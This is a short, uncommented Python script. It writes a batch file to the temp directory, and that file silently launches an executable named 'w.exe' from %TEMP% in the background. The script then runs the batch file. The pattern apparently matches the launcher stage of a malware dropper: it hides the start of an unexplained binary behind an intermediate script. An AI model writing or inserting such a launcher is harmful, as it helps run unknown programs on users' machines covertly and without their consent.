import os, tempfile
b = os.path.join(tempfile.gettempdir(), "u.bat")
with open(b, "w") as f:
    f.write("@echo off\nstart /b %TEMP%\\w.exe\n")
os.startfile(b)
